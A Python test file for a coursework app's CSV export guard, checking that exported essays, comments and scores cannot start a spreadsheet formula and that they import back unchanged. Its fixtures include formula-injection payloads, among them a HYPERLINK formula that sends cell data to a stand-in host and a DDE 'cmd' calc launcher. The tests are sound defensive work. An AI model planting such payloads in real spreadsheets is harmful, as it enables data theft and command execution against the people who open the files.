"""The export's formula guard: no cell a spreadsheet may make of an exported value starts a formula,
whichever separator it splits on (Excel in most of continental Europe splits a .csv on ';', and
there a line break inside a value starts a new row), and the import removes exactly the guard's
apostrophes, so essays, comments and scores come back as they were, apostrophes of their own too."""
import csv
import io
import itertools
import re

from lti_app.coursework.csv_io import escape, unescape
from lti_app.extensions import db
from lti_app.models import Grade, Submission
from tests.coursework.test_csv_and_data import _csv, _upload, teacher  # noqa: F401 (fixture)
from tests.coursework.test_csv_export_roundtrip import _assignment, _file

FORMULA = ("=", "+", "-", "@")
# Where a spreadsheet may start a cell: the line's start, after ';', a tab or a line break (a split
# on ',' starts cells only where the csv module quoted the whole value).
CELL_STARTS = re.compile(r"(?:^|(?<=[;\t\r\n]))")


def _cells_start_a_formula(text: str) -> list[str]:
    """The cells of `text` that start a formula, an opening quote (which Excel drops) looked through."""
    starts = [m.start() for m in CELL_STARTS.finditer(text)]
    return [text[at:at + 30] for at in starts if text[at:].lstrip('"').startswith(FORMULA + ("\t", "\r"))]


def test_every_short_text_round_trips_and_starts_no_formula_anywhere():
    alphabet = [";", "\t", "\r", "\n", "=", "+", "-", "@", "'", '"', "a", ","]
    for length in range(5):
        for chars in itertools.product(alphabet, repeat=length):
            text = "".join(chars)
            escaped = escape(text)
            assert unescape(escaped) == text, (text, escaped)
            assert not _cells_start_a_formula(escaped), (text, escaped)


def test_only_text_is_touched():
    assert escape(-2) == -2 and escape(None) is None and escape(4.5) == 4.5
    assert escape("Dear Principal, I think phones help.") == "Dear Principal, I think phones help."


ROWS = [
    ('I agree with the author;=HYPERLINK("http://e.x/?"&A1);', "5", "Good;=SUM(A1:A9) points", "4", ""),
    ("My plan:\n- first, the bus\n+ then the train\n@home at six", "4.5", "Line one\n=1+1", "3", "g1"),
    ("Columns\t=cmd|' /C calc'!A0 and \"=quoted\"", "2", "", "", ""),
    ("Already escaped looking;'=x and\n''-y and '@z", "3", "'=starts with an apostrophe", "2", ""),
    ('"=1" is what I wrote;"+2"', "1", "-2 points for spelling", "", "g2"),
    ("A plain essay about school buses.", "6", "", "5", ""),
]


def _graded(app, assignment_id: int) -> dict[str, tuple]:
    with app.app_context():
        rows = db.session.execute(db.select(Submission.text, Grade.score, Grade.comment, Grade.trait_scores,
                                            Submission.group_label)
                                  .join(Grade, Grade.submission_id == Submission.id)
                                  .where(Submission.assignment_id == assignment_id)).all()
    return {row[0]: tuple(row[1:]) for row in rows}


def test_the_export_starts_no_formula_and_imports_back_exactly(teacher, app, world):
    assert _upload(teacher, world, _csv(ROWS)).status_code == 303
    stored = _graded(app, world.assignment_a)
    assert len(stored) == len(ROWS)
    export = teacher.get("/coursework/course/export.csv").get_data(as_text=True).lstrip("\ufeff")
    assert not _cells_start_a_formula(export)
    assert ";'=HYPERLINK(" in export and "\n'- first" in export and "\t'=cmd" in export

    # Into a fresh assignment of the course: every text, comment, score, trait score and group as stored.
    lines = list(csv.reader(io.StringIO(export, newline="")))
    header = lines[0]
    mine = [line for line in lines[1:] if line[header.index("assignment_id")] == str(world.assignment_a)]
    with app.app_context():
        target = _assignment(world, "Essay a, next term", "cohesion")
        db.session.commit()
        target_id = target.id
    world.assignment_a = target_id
    answer = _upload(teacher, world, _file([header] + mine))
    assert answer.status_code == 303, answer.get_data(as_text=True)
    assert _graded(app, target_id) == stored
